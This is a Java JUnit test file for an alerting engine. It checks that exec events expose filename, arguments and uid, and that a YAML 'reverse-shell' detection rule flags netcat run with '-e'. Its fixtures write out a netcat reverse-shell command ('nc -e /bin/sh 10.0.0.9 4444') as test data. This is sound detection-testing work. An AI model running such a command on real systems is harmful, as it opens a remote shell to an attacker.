package io.akmon.flink.alert;

import io.akmon.flink.alert.rules.RuleParser;
import io.akmon.flink.ingest.Event;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static io.akmon.flink.alert.Scenario.SECOND;
import static io.akmon.flink.alert.Scenario.T0;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Rules see what an exec ran: its filename, its arguments (one string) and its uid. */
class ExecFactsTest {
    private static final String RULES = """
            rules:
              - name: reverse-shell
                severity: critical
                key: [host, pid]
                message: "{key.host} {key.pid} ran {run.filename} {run.argv} as uid {run.uid}"
                steps:
                  - name: run
                    type: exec
                    where:
                      filename: {ends_with: "/nc"}
                      argv: {contains: " -e "}
            """;

    private static Event exec(Scenario s, String host, int pid, String uid, String filename, String... argv) {
        Event e = s.event("exec", host, pid, "nc", T0 + pid * SECOND);
        e.ppid = 1;
        e.uid = uid;
        e.filename = filename;
        e.argv = argv;
        return e;
    }

    @Test
    void execFactsCarryFilenameArgvAndUid() {
        Scenario s = new Scenario();
        Fact f = Facts.of(exec(s, "h1", 7, "1000", "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.9", "4444"));
        assertEquals("/usr/bin/nc", f.get("filename"));
        assertEquals("nc -e /bin/sh 10.0.0.9 4444", f.get("argv"));
        assertEquals("1000", f.get("uid"));
        assertEquals(FactSchema.Kind.STRING, FactSchema.fields("exec").get("filename"));
        assertEquals(FactSchema.Kind.STRING, FactSchema.fields("exec").get("argv"));
    }

    @Test
    void aRuleMatchesOnFilenameAndArguments() throws Exception {
        RuleParser.Result parsed = RuleParser.parse(RULES, "exec.yaml", Map.of());
        assertEquals(List.of(), parsed.errors());
        Scenario s = new Scenario();
        s.add(exec(s, "h1", 7, "1000", "/usr/bin/nc", "nc", "-e", "/bin/sh", "10.0.0.9", "4444"));
        s.add(exec(s, "h1", 8, "1000", "/usr/bin/nc", "nc", "-l", "4444"));          // no -e
        s.add(exec(s, "h1", 9, "0", "/usr/bin/ncat", "ncat", "-e", "/bin/sh", "x")); // another binary
        List<Alert> alerts = s.run(parsed.rules());
        assertEquals(1, alerts.size(), alerts.toString());
        assertEquals("7", String.valueOf(alerts.get(0).keyFields.get("pid")));
        assertTrue(alerts.get(0).message.contains("ran /usr/bin/nc nc -e /bin/sh 10.0.0.9 4444 as uid 1000"),
                alerts.get(0).message);
    }

    @Test
    void anUnknownExecFieldIsStillRejected() {
        RuleParser.Result parsed = RuleParser.parse(RULES.replace("filename:", "image:"), "exec.yaml", Map.of());
        assertEquals(1, parsed.errors().size());
        assertTrue(parsed.errors().get(0).toString().contains("unknown field 'image' for type 'exec'"),
                parsed.errors().toString());
    }
}
